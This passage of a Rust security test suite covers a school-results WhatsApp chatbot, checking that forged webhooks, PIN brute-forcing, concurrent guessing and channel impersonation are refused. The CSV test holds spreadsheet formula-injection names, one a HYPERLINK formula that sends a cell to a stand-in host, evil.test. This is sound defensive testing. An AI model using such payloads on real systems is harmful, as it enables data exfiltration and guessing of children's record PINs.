//! Attacks on children's data and on the service, each reproduced against a real server (signed
//! webhooks, the REST API, concurrent requests) and seen refused, on both backends.

mod common;

use std::time::Duration;

use chatbot::channels::mock_graph::MockGraph;
use chatbot::channels::whatsapp_cloud::sign;
use chatbot::demo::{self, DemoCredentials};
use common::{TestApp, TestEnv, Variant};
use reqwest::StatusCode;
use sea_orm::{EntityTrait, PaginatorTrait};
use serde_json::{Value, json};

variants!(
    one_schools_app_secret_never_speaks_for_anothers_number,
    wrong_pins_are_counted_per_student_whoever_guesses,
    a_phone_guessing_across_students_is_paused,
    concurrent_api_guesses_cannot_pass_the_limit,
    the_api_cannot_impersonate_a_whatsapp_parent,
    provider_secrets_are_sealed_at_rest_and_survive_rotation,
    the_results_template_never_carries_a_formula,
    a_school_cannot_claim_a_phone_it_was_never_written_from,
    report_cards_are_reused_and_limited_per_phone,
    metrics_are_not_for_anyone,
    slow_clients_are_cut_off,
    pins_are_never_stored_or_sent_to_the_model,
);

const WEBHOOK: &str = "/api/v1/chatbot/webhooks/whatsapp/";

async fn start(v: Variant) -> Option<(TestApp, MockGraph, DemoCredentials)> {
    TestApp::with_demo_and_graph(v).await
}

/// One change of a Meta notification: `number` written to, with messages and statuses.
fn change(number: &str, messages: Value, statuses: Value) -> Value {
    json!({"field": "messages", "value": {
        "messaging_product": "whatsapp",
        "metadata": {"display_phone_number": "15550100001", "phone_number_id": number},
        "messages": messages,
        "statuses": statuses,
    }})
}

fn text_from(digits: &str, id: &str, body: &str) -> Value {
    json!([{"from": digits, "id": id, "timestamp": "1763800000", "type": "text",
        "text": {"body": body}}])
}

fn notification(changes: Vec<Value>) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "object": "whatsapp_business_account",
        "entry": [{"id": "WABA", "changes": changes}]
    }))
    .unwrap()
}

async fn post_signed(app: &TestApp, body: &[u8], secret: &str) -> (StatusCode, Value) {
    let r = app
        .http
        .post(app.url(WEBHOOK))
        .header("content-type", "application/json")
        .header("X-Hub-Signature-256", sign(body, secret))
        .body(body.to_vec())
        .send()
        .await
        .unwrap();
    (r.status(), r.json().await.unwrap_or(Value::Null))
}

async fn rows<E>(app: &TestApp) -> u64
where
    E: EntityTrait,
    E::Model: Sync,
{
    E::find().count(&app.state.db).await.unwrap()
}

/// Point 1: school B's admin holds B's app secret. Signed with it, a body naming A's number
/// (alone, beside B's own, or as delivery statuses) or the platform's shared number is refused,
/// and nothing is queued, answered or recorded; each school's own deliveries still pass.
async fn one_schools_app_secret_never_speaks_for_anothers_number(v: Variant) {
    use chatbot::entities::{chat_session, message_log};
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let (a, b) = (&creds.tenants[0], &creds.tenants[1]);
    let a_parent = a
        .parent_with_children(1)
        .unwrap()
        .phone
        .trim_start_matches('+');
    let b_parent = b
        .parent_with_children(1)
        .unwrap()
        .phone
        .trim_start_matches('+');
    let (a_number, b_number) = (&a.whatsapp.phone_number_id, &b.whatsapp.phone_number_id);
    let shared = &creds.shared_number.phone_number_id;
    let b_secret = &b.whatsapp.app_secret;
    let attacks = [
        (
            "A's number",
            notification(vec![change(
                a_number,
                text_from(a_parent, "wamid.f1", "hi"),
                json!([]),
            )]),
        ),
        (
            "B's number, then A's",
            notification(vec![
                change(b_number, text_from(b_parent, "wamid.f2", "hi"), json!([])),
                change(a_number, text_from(a_parent, "wamid.f3", "hi"), json!([])),
            ]),
        ),
        (
            "statuses of A's number",
            notification(vec![change(
                a_number,
                json!([]),
                json!([{"id": "wamid.mock.1", "status": "failed", "recipient_id": a_parent}]),
            )]),
        ),
        (
            "the shared number",
            notification(vec![change(
                shared,
                text_from(a_parent, "wamid.f4", "hi"),
                json!([]),
            )]),
        ),
        (
            "no number",
            notification(vec![change(
                "",
                text_from(a_parent, "wamid.f5", "hi"),
                json!([]),
            )]),
        ),
    ];
    for (what, body) in &attacks {
        let (status, answer) = post_signed(&app, body, b_secret).await;
        assert_eq!(
            (status, answer["error"].as_str()),
            (StatusCode::UNAUTHORIZED, Some("invalid_signature")),
            "{what}, signed with B's secret"
        );
    }
    // A's own secret cannot speak for B's number either, nor for both at once.
    let both = &attacks[1].1;
    assert_eq!(
        post_signed(&app, both, &a.whatsapp.app_secret).await.0,
        StatusCode::UNAUTHORIZED
    );

    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(mock.received().is_empty(), "nothing was answered");
    assert_eq!(rows::<chat_session::Entity>(&app).await, 0);
    assert_eq!(rows::<message_log::Entity>(&app).await, 0);

    // Each school's own deliveries, and the platform's on the shared number, still pass.
    for (secret, number, from, id) in [
        (b_secret, b_number, b_parent, "wamid.ok1"),
        (&a.whatsapp.app_secret, a_number, a_parent, "wamid.ok2"),
        (&a.whatsapp.app_secret, shared, a_parent, "wamid.ok3"),
    ] {
        let body = notification(vec![change(number, text_from(from, id, "hi"), json!([]))]);
        assert_eq!(
            post_signed(&app, &body, secret).await.0,
            StatusCode::OK,
            "{id}"
        );
    }
    let to = |number: &str, parent: &str| {
        let (number, parent) = (number.to_string(), parent.to_string());
        move |r: &chatbot::channels::mock_graph::Received| {
            r.phone_number_id == number && r.to() == parent
        }
    };
    common::eventually("an answer to each", Duration::from_secs(30), || async {
        let got = mock.received();
        [
            to(b_number, b_parent),
            to(a_number, a_parent),
            to(shared, a_parent),
        ]
        .iter()
        .all(|answered| got.iter().any(answered))
        .then_some(())
    })
    .await;
    app.stop().await.unwrap();
    mock.stop();
}

/// One WhatsApp turn over the signed webhook: what the bot answered to the message `id` that
/// `digits` sent (read from the school's message log once the turn is stored).
async fn turn(
    app: &TestApp,
    number: &str,
    secret: &str,
    digits: &str,
    id: &str,
    text: &str,
) -> String {
    use chatbot::entities::message_log::{Column, Entity};
    use sea_orm::{ColumnTrait, QueryFilter, QueryOrder};
    let body = notification(vec![change(number, text_from(digits, id, text), json!([]))]);
    assert_eq!(
        post_signed(app, &body, secret).await.0,
        StatusCode::OK,
        "{text}"
    );
    common::eventually(
        &format!("the answer to {text:?}"),
        Duration::from_secs(30),
        || async {
            let db = &app.state.db;
            let stored = Entity::find()
                .filter(Column::ProviderMessageId.eq(id))
                .one(db)
                .await
                .unwrap();
            stored?;
            let out = Entity::find()
                .filter(Column::ReplyTo.eq(id))
                .order_by_asc(Column::Id)
                .all(db)
                .await
                .unwrap();
            Some(
                out.into_iter()
                    .map(|r| r.body)
                    .collect::<Vec<_>>()
                    .join("\n---\n"),
            )
        },
    )
    .await
}

/// A parent's phone on the demo school's own number.
struct Parent<'a> {
    app: &'a TestApp,
    school: &'a chatbot::demo::DemoTenant,
    digits: String,
    sent: usize,
}

impl<'a> Parent<'a> {
    fn new(app: &'a TestApp, school: &'a chatbot::demo::DemoTenant, phone: &str) -> Self {
        Self {
            app,
            school,
            digits: phone.trim_start_matches('+').to_string(),
            sent: 0,
        }
    }

    async fn says(&mut self, text: &str) -> String {
        self.sent += 1;
        let wa = &self.school.whatsapp;
        let id = format!("wamid.{}.{}.{}", wa.phone_number_id, self.digits, self.sent);
        turn(
            self.app,
            &wa.phone_number_id,
            &wa.app_secret,
            &self.digits,
            &id,
            text,
        )
        .await
    }

    /// Ask for results of `student_id` and answer the PIN prompt with `pin`.
    async fn tries(&mut self, student_id: &str, pin: &str) -> String {
        let asked = self.says("another child").await;
        if !asked.contains("student ID") {
            return asked;
        }
        let prompt = self.says(student_id).await;
        assert!(prompt.contains("PIN for"), "{prompt}");
        self.says(pin).await
    }
}

fn wrong_pin(pin: &str) -> &'static str {
    if pin == "0000" { "9999" } else { "0000" }
}

async fn get_chatbot(app: &TestApp, key: &str, body: Value) -> (StatusCode, Value) {
    app.get_chatbot(key, body).await
}

/// Point 2: a parent who knows their own child's PIN guesses another's, between two phones and
/// the API: five wrong PINs in all lock that student for everyone, the right PIN included, while
/// a correct PIN for another student resets nothing; the phone linked to the student still sees
/// the child without a PIN.
async fn wrong_pins_are_counted_per_student_whoever_guesses(v: Variant) {
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let school = &creds.tenants[0];
    let linked = school.parent_with_children(1).unwrap();
    let target = school.student(&linked.student_ids[0]).unwrap();
    let own = school.students_without_phone().next().unwrap();
    let wrong = wrong_pin(&target.pin);

    let mut attacker = Parent::new(&app, school, "+2348055500001");
    attacker.says("hi").await;
    for left in ["4 attempts", "3 attempts"] {
        let said = attacker.tries(&target.student_id, wrong).await;
        assert!(said.contains(left), "{said}");
    }
    // Their own child's PIN is right: it resets nothing.
    let said = attacker.tries(&own.student_id, &own.pin).await;
    assert!(said.contains("verified for"), "{said}");
    let said = attacker.tries(&target.student_id, wrong).await;
    assert!(said.contains("2 attempts"), "{said}");
    // Another phone, then the API, go on counting for the same student.
    let mut accomplice = Parent::new(&app, school, "+2348055500002");
    accomplice.says("hi").await;
    let said = accomplice.tries(&target.student_id, wrong).await;
    assert!(said.contains("1 attempt"), "{said}");
    let (status, _) = get_chatbot(
        &app,
        &school.api_key,
        json!({"student_id": target.student_id, "pin": wrong}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // Locked now, for the right PIN too, on every path.
    let (status, body) = get_chatbot(
        &app,
        &school.api_key,
        json!({"student_id": target.student_id, "pin": target.pin}),
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (StatusCode::TOO_MANY_REQUESTS, Some("rate_limited"))
    );
    let mut third = Parent::new(&app, school, "+2348055500003");
    third.says("hi").await;
    let said = third.tries(&target.student_id, &target.pin).await;
    assert!(
        said.contains("paused") && !said.contains("verified"),
        "{said}"
    );
    // Another student of the school is not locked.
    let said = third.tries(&own.student_id, &own.pin).await;
    assert!(said.contains("verified for"), "{said}");
    // The linked parent needs no PIN: their child's results are still theirs, and typing the
    // child's ID is not a PIN attempt either.
    let mut parent = Parent::new(&app, school, &linked.phone);
    let said = parent.says("results").await;
    assert!(
        said.contains(&target.name) && !said.contains("paused"),
        "{said}"
    );
    let said = parent.says("another child").await;
    assert!(said.contains("student ID"), "{said}");
    let said = parent.says(&target.student_id).await;
    assert!(
        said.contains(&target.name) && !said.contains("PIN"),
        "{said}"
    );
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 2, the guesser's side: one phone trying one wrong PIN on each of five students is
/// paused, even for a sixth student's right PIN, and even through another school's number.
async fn a_phone_guessing_across_students_is_paused(v: Variant) {
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let school = &creds.tenants[0];
    let students: Vec<_> = school.students_without_phone().take(6).collect();
    let mut guesser = Parent::new(&app, school, "+2348055500009");
    guesser.says("hi").await;
    for s in &students[..5] {
        let said = guesser.tries(&s.student_id, wrong_pin(&s.pin)).await;
        assert!(
            said.contains("not right for") || said.contains("paused"),
            "{said}"
        );
    }
    let said = guesser.says("another child").await;
    assert!(said.contains("paused"), "{said}");
    let said = guesser.says("results").await;
    assert!(!said.contains("verified"), "{said}");
    // The same phone at the other school is paused as well.
    let north = &creds.tenants[1];
    let mut there = Parent::new(&app, north, "+2348055500009");
    there.says("hi").await;
    let said = there.says("another child").await;
    assert!(said.contains("paused"), "{said}");
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 3: thirty wrong PINs sent at once to `get-chatbot/` are not all checked: with the
/// ones sent one by one afterwards, exactly `CHATBOT_PIN_MAX_FAILURES` (5) are answered "no
/// match", every other one "too many".
async fn concurrent_api_guesses_cannot_pass_the_limit(v: Variant) {
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let school = &creds.tenants[0];
    let target = school.students_without_phone().next().unwrap();
    let wrong = wrong_pin(&target.pin);
    let body = json!({"student_id": target.student_id, "pin": wrong});
    let answers = futures::future::join_all(
        (0..30).map(|_| get_chatbot(&app, &school.api_key, body.clone())),
    )
    .await;
    let count = |answers: &[(StatusCode, Value)], s: StatusCode| {
        answers.iter().filter(|a| a.0 == s).count()
    };
    let (mut checked, limited) = (
        count(&answers, StatusCode::NOT_FOUND),
        count(&answers, StatusCode::TOO_MANY_REQUESTS),
    );
    assert_eq!(checked + limited, 30, "{answers:?}");
    assert!(
        (1..=5).contains(&checked),
        "{checked} of 30 concurrent guesses were checked"
    );
    loop {
        let (status, _) = get_chatbot(&app, &school.api_key, body.clone()).await;
        if status == StatusCode::TOO_MANY_REQUESTS {
            break;
        }
        assert_eq!(status, StatusCode::NOT_FOUND);
        checked += 1;
        assert!(checked <= 5, "more than five wrong PINs were checked");
    }
    assert_eq!(checked, 5);
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 4: `POST messages/` names a parent's phone and `channel: "whatsapp"`: the verification
/// stays in the API's own conversation, never the parent's WhatsApp one; and a new channel
/// name gives no fresh attempts.
async fn the_api_cannot_impersonate_a_whatsapp_parent(v: Variant) {
    use chatbot::entities::chat_session;
    use sea_orm::{ColumnTrait, QueryFilter};
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let school = &creds.tenants[0];
    let phone = "+2348055500010";
    let own = school.students_without_phone().next().unwrap();
    let message =
        |text: &str, channel: &str| json!({"phone": phone, "text": text, "channel": channel});
    for text in [
        "hi",
        "another child",
        own.student_id.as_str(),
        own.pin.as_str(),
    ] {
        let (status, body) = app
            .api(
                &school.api_key,
                reqwest::Method::POST,
                "/messages/",
                Some(message(text, "whatsapp")),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let sessions = chat_session::Entity::find()
        .filter(chat_session::Column::UserId.eq(phone))
        .all(&app.state.db)
        .await
        .unwrap();
    let channels: Vec<&str> = sessions.iter().map(|s| s.channel.as_str()).collect();
    assert_eq!(channels, ["api:whatsapp"]);
    // The parent's own WhatsApp conversation has verified nobody.
    let mut parent = Parent::new(&app, school, phone);
    let said = parent.says("results").await;
    assert!(
        said.contains("student ID") && !said.contains(&own.name),
        "{said}"
    );
    // Five wrong PINs through the API key, spread over channel names: then it is paused,
    // whatever channel it names next.
    let target = school.students_without_phone().nth(1).unwrap();
    for (i, channel) in ["a", "b", "c", "d", "e"].iter().enumerate() {
        let phone = format!("+23480555001{i:02}");
        for text in [
            "another child",
            target.student_id.as_str(),
            wrong_pin(&target.pin),
        ] {
            let (status, _) = app
                .api(
                    &school.api_key,
                    reqwest::Method::POST,
                    "/messages/",
                    Some(json!({"phone": phone, "text": text, "channel": channel})),
                )
                .await;
            assert_eq!(status, StatusCode::OK);
        }
    }
    let other = school.students_without_phone().nth(2).unwrap();
    let mut said = String::new();
    for text in [
        "another child",
        other.student_id.as_str(),
        other.pin.as_str(),
    ] {
        let (_, body) = app
            .api(
                &school.api_key,
                reqwest::Method::POST,
                "/messages/",
                Some(json!({"phone": "+2348055500199", "text": text, "channel": "fresh"})),
            )
            .await;
        said = body["replies"].to_string();
        if said.contains("paused") {
            break;
        }
    }
    assert!(
        said.contains("paused") && !said.contains("verified"),
        "{said}"
    );
    app.stop().await.unwrap();
    mock.stop();
}

/// Every provider secret column of every business number, as stored.
async fn stored_secrets(app: &TestApp) -> Vec<String> {
    use chatbot::entities::whatsapp_number;
    whatsapp_number::Entity::find()
        .all(&app.state.db)
        .await
        .unwrap()
        .into_iter()
        .flat_map(|n| [n.app_secret, n.verify_token, n.access_token, n.auth_token])
        .flatten()
        .collect()
}

/// A's Meta number answers: a signed "hi" is accepted and the reply goes out with A's access
/// token; A's verify token is known.
async fn meta_number_works(app: &TestApp, mock: &MockGraph, a: &demo::DemoTenant, id: &str) {
    let parent = a
        .parent_with_children(1)
        .unwrap()
        .phone
        .trim_start_matches('+');
    let body = notification(vec![change(
        &a.whatsapp.phone_number_id,
        text_from(parent, id, "hi"),
        json!([]),
    )]);
    let bearer = format!("Bearer {}", a.whatsapp.access_token);
    let with_token = || {
        mock.received()
            .iter()
            .filter(|r| r.authorization.as_deref() == Some(bearer.as_str()))
            .count()
    };
    let sent_before = with_token();
    let (status, answer) = post_signed(app, &body, &a.whatsapp.app_secret).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    common::eventually(
        "the reply, sent with A's token",
        Duration::from_secs(30),
        || {
            let more = with_token() > sent_before;
            async move { more.then_some(()) }
        },
    )
    .await;
    let r = app
        .http
        .get(app.url(WEBHOOK))
        .query(&[
            ("hub.mode", "subscribe"),
            ("hub.verify_token", a.whatsapp.verify_token.as_str()),
            ("hub.challenge", "c123"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.text().await.unwrap(), "c123");
}

/// Point 5: what the database holds of provider secrets gives none of them away; a row an
/// older version wrote in clear is sealed at the next start; the server secret is rotated
/// with CHATBOT_PREVIOUS_SECRET_KEY (secrets sealed again, a PIN hashed again when typed right),
/// and a secret that does not open under the server secret is refused, never used.
async fn provider_secrets_are_sealed_at_rest_and_survive_rotation(v: Variant) {
    use chatbot::entities::whatsapp_number;
    use sea_orm::{ActiveModelTrait, ColumnTrait, QueryFilter, Set};
    use secrecy::SecretString;
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let a = &creds.tenants[0];
    let plaintexts: Vec<&str> = creds
        .tenants
        .iter()
        .flat_map(|t| {
            let w = &t.whatsapp;
            [
                w.app_secret.as_str(),
                w.verify_token.as_str(),
                w.access_token.as_str(),
                w.twilio_auth_token.as_str(),
            ]
        })
        .collect();
    let sealed_only = |stored: &[String]| {
        assert!(stored.len() >= plaintexts.len(), "{}", stored.len());
        for value in stored {
            assert!(value.starts_with("sealed:v1:"), "stored in clear");
            assert!(
                plaintexts.iter().all(|p| !value.contains(p)),
                "a secret shows through"
            );
        }
    };
    sealed_only(&stored_secrets(&app).await);
    meta_number_works(&app, &mock, a, "wamid.seal1").await;

    // A row written in clear, as an older version did: sealed at the next start.
    let number = whatsapp_number::Entity::find()
        .filter(whatsapp_number::Column::PhoneNumberId.eq(a.whatsapp.phone_number_id.as_str()))
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let mut row: whatsapp_number::ActiveModel = number.into();
    row.app_secret = Set(Some(a.whatsapp.app_secret.clone()));
    row.verify_token = Set(Some(a.whatsapp.verify_token.clone()));
    row.update(&app.state.db).await.unwrap();
    // Each restart may cut off the send job of the reply just seen (the turn's end is
    // recorded after its last reply goes out), and the next message of the same parent
    // waits for that turn until the orphaned job runs again: a short orphan timeout keeps
    // that wait inside this test's deadline.
    let app = app.restart(|s| s.queue.orphan_timeout_secs = 3).await;
    sealed_only(&stored_secrets(&app).await);
    meta_number_works(&app, &mock, a, "wamid.seal2").await;

    // Rotation: the new secret, with the old one as previous, seals everything again.
    let old = app.settings().secrets.secret_key.clone().unwrap();
    let new = SecretString::from("rotated-secret-key-fedcba9876543210-fedcba".to_string());
    let before = stored_secrets(&app).await;
    let student = a
        .student(&a.parent_with_children(1).unwrap().student_ids[0])
        .unwrap();
    let app = app
        .restart(|s| {
            s.secrets.secret_key = Some(new.clone());
            s.secrets.previous_secret_key = Some(old.clone());
            s.queue.orphan_timeout_secs = 3;
        })
        .await;
    let after = stored_secrets(&app).await;
    sealed_only(&after);
    assert!(
        before.iter().all(|b| !after.contains(b)),
        "all sealed again"
    );
    meta_number_works(&app, &mock, a, "wamid.seal3").await;
    // The PIN, hashed under the old secret, still opens, and is hashed again under the new.
    let proof = json!({"student_id": student.student_id, "pin": student.pin});
    let (status, body) = get_chatbot(&app, &a.api_key, proof.clone()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // The old secret retired: everything still works.
    let app = app
        .restart(|s| {
            s.secrets.previous_secret_key = None;
            s.queue.orphan_timeout_secs = 3;
        })
        .await;
    meta_number_works(&app, &mock, a, "wamid.seal4").await;
    let (status, body) = get_chatbot(&app, &a.api_key, proof.clone()).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // A server started with a wrong secret cannot open them: deliveries are refused, and the
    // rows are left for the right secret.
    let settled = stored_secrets(&app).await;
    let app = app
        .restart(|s| {
            s.secrets.secret_key = Some(SecretString::from(
                "some-other-secret-key-0000000000000000000".to_string(),
            ))
        })
        .await;
    assert_eq!(stored_secrets(&app).await, settled);
    let parent = a
        .parent_with_children(1)
        .unwrap()
        .phone
        .trim_start_matches('+');
    let body = notification(vec![change(
        &a.whatsapp.phone_number_id,
        text_from(parent, "wamid.seal5", "hi"),
        json!([]),
    )]);
    let (status, _) = post_signed(&app, &body, &a.whatsapp.app_secret).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let app = app
        .restart(|s| s.secrets.secret_key = Some(new.clone()))
        .await;
    meta_number_works(&app, &mock, a, "wamid.seal6").await;
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 7: a student imported with names a spreadsheet would run as formulas comes out of the
/// results template neutralised (a leading `'`), keeps the names as given everywhere else, and
/// the downloaded template uploads back as it is.
async fn the_results_template_never_carries_a_formula(v: Variant) {
    use chatbot::entities::{class, student};
    use sea_orm::{ColumnTrait, QueryFilter};
    let Some(app) = TestApp::spawn(v).await else {
        return;
    };
    let (a, _) = app.two_schools().await;
    let db = &app.state.db;
    let class = class::Entity::find_by_id(a.class_id)
        .one(db)
        .await
        .unwrap()
        .unwrap();
    let names = [
        (
            "STU/901",
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"Open\")",
            "Bello",
        ),
        ("STU/902", "@SUM(1+1)", "Okafor"),
        ("STU/903", "+1", "Ade"),
        ("STU/904", "-2+3", "Eze"),
    ];
    let rows: Vec<Value> = names
        .iter()
        .map(|(id, first, last)| {
            json!({"student_id": id, "first_name": first, "last_name": last,
                "class": class.name, "pin": "2468"})
        })
        .collect();
    let r = app
        .http
        .post(app.url("/api/v1/chatbot/imports/students/"))
        .header("X-API-KEY", &a.api_key)
        .json(&rows)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let query = format!("class_id={}&exam_session_id={}", a.class_id, a.exam_id);
    let r = app
        .http
        .get(app.url(&format!("/api/v1/chatbot/results/manual-template/?{query}")))
        .header("X-API-KEY", &a.api_key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let template = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(template.as_bytes());
    let cells: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_string(), r[1].to_string())
        })
        .collect();
    for (id, first, last) in names {
        let (_, cell) = cells.iter().find(|(i, _)| i == id).unwrap();
        assert_eq!(cell, &format!("'{first} {last}"), "{id}");
        // The school's own record keeps the name as given.
        let stored = a
            .ctx
            .find::<student::Entity>()
            .filter(student::Column::StudentId.eq(id))
            .one(db)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(stored.first_name, first);
    }
    // An innocent name is written as it is.
    assert!(cells.iter().any(|(_, c)| !c.starts_with('\'')));
    // The template, downloaded and sent back, is accepted.
    let r = app
        .http
        .post(app.url(&format!("/api/v1/chatbot/results/manual-template/?{query}")))
        .header("X-API-KEY", &a.api_key)
        .header("Content-Type", "text/csv")
        .body(template)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    app.stop().await.unwrap();
}

/// Point 9: school B imports the phone of A's parent. On the shared number the parent is not
/// offered B (nor told it exists), and B's broadcasts from the shared number skip the phone,
/// until the parent names B there; then B is theirs too.
async fn a_school_cannot_claim_a_phone_it_was_never_written_from(v: Variant) {
    use chatbot::entities::{whatsapp_contact, whatsapp_number};
    use sea_orm::{ColumnTrait, QueryFilter};
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let (a, b) = (&creds.tenants[0], &creds.tenants[1]);
    assert_eq!(creds.shared_number.owner, a.schema_name);
    let db = &app.state.db;
    let b_ctx = chatbot::tenancy::by_schema_name(
        db,
        &chatbot::domain::SchemaName::parse(&b.schema_name).unwrap(),
    )
    .await
    .unwrap();
    let b_phones: Vec<String> = b_ctx
        .find::<whatsapp_contact::Entity>()
        .all(db)
        .await
        .unwrap()
        .into_iter()
        .map(|c| c.phone)
        .collect();
    let victim = a
        .parents
        .iter()
        .find(|p| !p.student_ids.is_empty() && !b_phones.contains(&p.phone))
        .expect("a parent of A only");
    let (status, body) = app
        .api(
            &b.api_key,
            reqwest::Method::POST,
            "/imports/contacts/",
            Some(json!([{"phone": victim.phone, "name": "claimed"}])),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // On the shared number: straight to A, B never named.
    let shared = &creds.shared_number.phone_number_id;
    let platform = &a.whatsapp.app_secret;
    let digits = victim.phone.trim_start_matches('+');
    let said = turn(&app, shared, platform, digits, "wamid.claim1", "hi").await;
    assert!(said.contains(&a.name) || said.contains("Welcome"), "{said}");
    assert!(!said.contains(&b.name), "B offered: {said}");
    let said = turn(
        &app,
        shared,
        platform,
        digits,
        "wamid.claim2",
        "switch school",
    )
    .await;
    assert!(!said.contains(&b.name), "B offered: {said}");

    // B, with only the shared number to send from, broadcasts to the whole school: not to
    // the phone it imported.
    whatsapp_number::Entity::delete_many()
        .filter(whatsapp_number::Column::TenantId.eq(b_ctx.id()))
        .filter(whatsapp_number::Column::Shared.eq(false))
        .exec(db)
        .await
        .unwrap();
    let (_, notice) = app
        .api(
            &b.api_key,
            reqwest::Method::POST,
            "/notices/",
            Some(json!({"title": "Fees", "body": "Pay now"})),
        )
        .await;
    let (status, job) = app
        .api(
            &b.api_key,
            reqwest::Method::POST,
            &format!("/notices/{}/broadcast/", notice["id"]),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
    let job_path = format!("/jobs/{}/", job["id"]);
    let done = common::eventually("the broadcast done", Duration::from_secs(30), || async {
        let (_, job) = app
            .api(&b.api_key, reqwest::Method::GET, &job_path, None)
            .await;
        (job["status"] == "done").then_some(job)
    })
    .await;
    let (_, recipients) = app
        .api(
            &b.api_key,
            reqwest::Method::GET,
            &format!("/jobs/{}/recipients/?page_size=100", job["id"]),
            None,
        )
        .await;
    let to: Vec<&str> = recipients["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["phone"].as_str().unwrap())
        .collect();
    assert_eq!(done["total"].as_u64(), Some(to.len() as u64), "{done}");
    assert!(
        !to.is_empty() && !to.contains(&victim.phone.as_str()),
        "{to:?}"
    );

    // The parent names B: now B is theirs, and listed beside A.
    let said = turn(&app, shared, platform, digits, "wamid.claim3", &b.name).await;
    assert!(said.contains("Welcome") || said.contains(&b.name), "{said}");
    // Asked which school (a turn of no school: read where it is sent), both are offered.
    let body = notification(vec![change(
        shared,
        text_from(digits, "wamid.claim4", "switch school"),
        json!([]),
    )]);
    assert_eq!(post_signed(&app, &body, platform).await.0, StatusCode::OK);
    let offered = common::eventually("the choice of schools", Duration::from_secs(30), || {
        let found = mock
            .received()
            .into_iter()
            .map(|r| r.body.to_string())
            .find(|sent| sent.contains(digits) && sent.contains(&a.name) && sent.contains(&b.name));
        async move { found }
    })
    .await;
    assert!(offered.contains("interactive"), "{offered}");
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 11: twenty report-card requests for the same child and exam store one PDF (each
/// answer links to it); fresh renders are limited per phone: the eleventh in an hour is
/// refused with a clear message.
async fn report_cards_are_reused_and_limited_per_phone(v: Variant) {
    use chatbot::entities::report;
    let Some((app, mock, creds)) = start(v).await else {
        return;
    };
    let school = &creds.tenants[0];
    let parent = school.parent_with_children(1).unwrap();
    let ask = async || {
        let mut last = Value::Null;
        for text in ["report card", "1"] {
            let r = app
                .http
                .post(app.url("/api/v1/chatbot/messages/"))
                .header("X-API-KEY", &school.api_key)
                .json(&json!({"phone": parent.phone, "text": text}))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK);
            last = r.json().await.unwrap();
        }
        last["replies"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["plain"].as_str().unwrap_or_default().to_string())
            .collect::<Vec<_>>()
            .join("\n")
    };
    let mut links = std::collections::BTreeSet::new();
    for _ in 0..20 {
        let said = ask().await;
        let link = said
            .lines()
            .find(|l| l.contains("/files/reports/"))
            .unwrap_or_else(|| panic!("a card: {said}"));
        links.insert(link.split('?').next().unwrap().to_string());
    }
    assert_eq!(links.len(), 1, "{links:?}");
    assert_eq!(rows::<report::Entity>(&app).await, 1);

    // Cards cleared each time (as the cleanup does): each request renders anew, up to the limit.
    for render in 2..=chatbot::reports::RENDERS_PER_PHONE_PER_HOUR + 1 {
        report::Entity::delete_many()
            .exec(&app.state.db)
            .await
            .unwrap();
        let said = ask().await;
        if render <= chatbot::reports::RENDERS_PER_PHONE_PER_HOUR {
            assert!(said.contains("/files/reports/"), "render {render}: {said}");
        } else {
            assert!(
                said.contains("many report cards") && !said.contains("/files/reports/"),
                "render {render}: {said}"
            );
        }
    }
    assert_eq!(rows::<report::Entity>(&app).await, 0);
    app.stop().await.unwrap();
    mock.stop();
}

/// Point 12: `/metrics` names schools. On the public listener it needs the bearer token, and is
/// not served at all without one, or when the metrics have their own listener.
async fn metrics_are_not_for_anyone(v: Variant) {
    let Some(app) = TestApp::spawn(v).await else {
        return;
    };
    let get = async |app: &TestApp, url: String, token: Option<&str>| {
        let mut r = app.http.get(url);
        if let Some(token) = token {
            r = r.bearer_auth(token);
        }
        let r = r.send().await.unwrap();
        (r.status(), r.text().await.unwrap())
    };
    let token = common::METRICS_TOKEN;
    let (status, _) = get(&app, app.url("/metrics"), None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, _) = get(&app, app.url("/metrics"), Some("not-the-token-0123456789")).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, text) = get(&app, app.url("/metrics"), Some(token)).await;
    assert_eq!(status, StatusCode::OK);
    assert!(text.contains("chatbot_"), "{text}");

    // No token: not served on the public listener.
    let app = app.restart(|s| s.server.metrics_token = None).await;
    let (status, body) = get(&app, app.url("/metrics"), Some(token)).await;
